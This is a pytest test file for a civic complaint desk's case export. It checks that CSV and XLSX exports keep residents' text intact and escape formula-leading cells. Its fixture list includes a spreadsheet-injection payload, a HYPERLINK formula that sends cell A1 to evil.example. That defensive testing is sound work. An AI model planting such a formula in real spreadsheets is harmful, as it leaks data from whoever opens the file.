"""Exports read back: CSV as Excel would (utf-8-sig), XLSX through openpyxl and as raw XML. Every cell is
data, never a formula, and the resident's words come back character for character — through the
gateway import (CSV) and through a reader of the workbook (XLSX)."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import uuid
import zipfile

import psycopg
import pytest
from openpyxl import load_workbook

from civicdesk_gui.documents import spreadsheet_cells
from civicdesk_gui.documents.case_export import HEADERS, export_cases, export_view
from civicdesk_gui.queries.case_list import CaseFilter, iterate_rows
from civicdesk_gui.store import database, opening
from civicdesk_gui.store.models import Case
from tests.case_samples import NOW, make_sample_cases

TEXT = HEADERS.index("내용")
# Texts a spreadsheet would run, or that a careless export would change.
RISKY_TEXTS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"클릭")',
    "=1+2",
    "+82 10-1234-5678 로 연락 주세요",
    "-5도 한파에 보일러가 고장났습니다",
    "@시장님 확인 부탁드립니다",
    "\t탭으로 시작하는 민원",
    "\r캐리지 리턴으로 시작",
    "'=이미 따옴표가 붙은 글",
    "''+따옴표 둘",
    "'그냥 따옴표로 시작",
    "#N/A 처럼 보이는 글",
    "12345",
    "  앞뒤 공백 ",
    '쉼표, "따옴표", 그리고\r\n줄바꿈\n두 번',
    "제어 문자\x0b\x1b가 섞인 글 _x000D_ 그대로",
]


@pytest.fixture
def rows(sqlite_db):
    from civicdesk_gui.actions.actor import ensure_user

    make_sample_cases(ensure_user("tester"))
    return list(iterate_rows(CaseFilter(view="overdue"), now=NOW, with_text=True))


def test_csv_has_a_bom_and_korean(rows, tmp_path):
    path = tmp_path / "목록.csv"
    assert export_cases(rows, path, fmt="csv") == 4
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert tuple(table[0]) == HEADERS
    assert len(table) == 5
    numbers = [r[0] for r in table[1:]]
    assert numbers == [r.number for r in rows]
    first = dict(zip(HEADERS, table[1], strict=True))
    assert first["접수 경로"] in ("바로문자", "이동시장실", "전화")
    assert any("보도블록" in r[5] for r in table[1:])
    assert [r[TEXT] for r in table[1:]] == [Case.get_by_id(r.id).text for r in rows]  # the whole words


def test_xlsx_reads_back_as_text(rows, tmp_path):
    path = tmp_path / "목록.xlsx"
    assert export_cases(rows, path, fmt="xlsx") == 4
    sheet = load_workbook(path).active
    values = list(sheet.values)
    assert values[0] == HEADERS
    assert [v[0] for v in values[1:]] == [r.number for r in rows]
    assert values[1][1] == f"{rows[0].received_at:%Y-%m-%d %H:%M}"  # a date as text, as in the CSV
    assert any(v[HEADERS.index("담당 부서")] == "도로관리과" for v in values[1:])
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}


def test_a_cancelled_export_leaves_no_file(rows, tmp_path, monkeypatch):
    monkeypatch.setattr("civicdesk_gui.documents.case_export.REPORT_EVERY", 2)
    path = tmp_path / "x.csv"

    class Stop(Exception):
        pass

    def check():
        raise Stop()

    with pytest.raises(Stop):
        export_cases(rows, path, fmt="csv", check=check)
    assert not path.exists()


# ------------------------------------------------------------------------ data, not code


def test_neutralising_is_exactly_reversible():
    for text in [*RISKY_TEXTS, "", "'", "''", "'a", "=", "'''=x", "a=b"]:
        shown = spreadsheet_cells.neutralise(text)
        assert spreadsheet_cells.restore(shown) == text
        assert shown[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert (shown != text) == spreadsheet_cells.is_risky(text)
    assert spreadsheet_cells.neutralise("=1+2") == "'=1+2"
    assert spreadsheet_cells.neutralise("'=1+2") == "''=1+2"
    assert spreadsheet_cells.neutralise("'그냥") == "'그냥"


def _risky_cases(actor) -> list[int]:
    from civicdesk_gui.actions import cases

    return [
        cases.intake_case(
            channel="text",
            text=text,
            submitter_name=f"주민{i}",
            received_at=NOW - dt.timedelta(hours=i + 1),
            actor=actor,
        ).case_id
        for i, text in enumerate(RISKY_TEXTS)
    ]


def test_csv_cells_that_would_be_formulas_are_neutralised(sqlite_db, tmp_path):
    from civicdesk_gui.actions.actor import ensure_user

    _risky_cases(ensure_user("tester"))
    path = tmp_path / "risky.csv"
    export_view(CaseFilter(), path, fmt="csv", now=NOW)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))[1:]
    texts = {row[TEXT] for row in table}
    assert "'=1+2" in texts and "'@시장님 확인 부탁드립니다" in texts and "'\t탭으로 시작하는 민원" in texts
    assert "''=이미 따옴표가 붙은 글" in texts and "'그냥 따옴표로 시작" in texts
    for row in table:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_xlsx_cells_are_strings_never_formulas(sqlite_db, tmp_path):
    from civicdesk_gui.actions.actor import ensure_user

    _risky_cases(ensure_user("tester"))
    path = tmp_path / "risky.xlsx"
    export_view(CaseFilter(), path, fmt="xlsx", now=NOW)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(path).active
    by_text = {}
    for row in sheet.iter_rows(min_row=2):
        assert {cell.data_type for cell in row if cell.value is not None} == {"s"}  # empty: no value at all
        cell = row[TEXT]
        by_text[spreadsheet_cells.xlsx_value(cell.value)] = cell
    hyperlink = by_text[RISKY_TEXTS[0]]
    assert hyperlink.value == RISKY_TEXTS[0] and hyperlink.quotePrefix  # the words, shown as text
    assert not by_text["12345"].quotePrefix and by_text["12345"].value == "12345"  # not a number


# ------------------------------------------------------------------------ the round trip


@contextlib.contextmanager
def _empty_database_like(target):
    """A second, empty CivicDesk database on the same back end."""
    if target.backend == "sqlite":
        yield f"sqlite:///{target.path.with_name('empty.db')}"
        return
    server = target.url.rsplit("/", 1)[0]
    name = f"civicdesk_empty_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(f"{server}/postgres", autocommit=True) as admin:
        admin.execute(
            f"CREATE DATABASE {name} TEMPLATE template0 ENCODING 'UTF8' LC_COLLATE 'C.UTF-8' LC_CTYPE 'C.UTF-8'"
        )
    try:
        yield f"{server}/{name}"
    finally:
        database.close()
        with psycopg.connect(f"{server}/postgres", autocommit=True) as admin:
            admin.execute(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")


def test_the_export_round_trip_keeps_every_character(any_db, actor, tmp_path):
    from civicdesk_gui.actions.case_import import import_sms_file

    ids = _risky_cases(actor)
    originals = {Case.get_by_id(i).text for i in ids}
    csv_path, xlsx_path = tmp_path / "cases.csv", tmp_path / "cases.xlsx"
    assert export_view(CaseFilter(), csv_path, fmt="csv") == len(ids)
    assert export_view(CaseFilter(), xlsx_path, fmt="xlsx") == len(ids)
    # XLSX: a reader of the format, with the documented un-escaping of control characters.
    sheet = load_workbook(xlsx_path).active
    assert {
        spreadsheet_cells.xlsx_value(row[TEXT]) for row in sheet.iter_rows(min_row=2, values_only=True)
    } == (originals)
    # CSV: back through the gateway import, into an empty database.
    with _empty_database_like(any_db) as url:
        opening.connect(url)
        from civicdesk_gui.actions.actor import ensure_user

        report = import_sms_file(csv_path, actor=ensure_user("nightly", display_name="야간 작업"))
        assert (report.imported, report.rejected) == (len(ids), [])
        assert {c.text for c in Case.select()} == originals
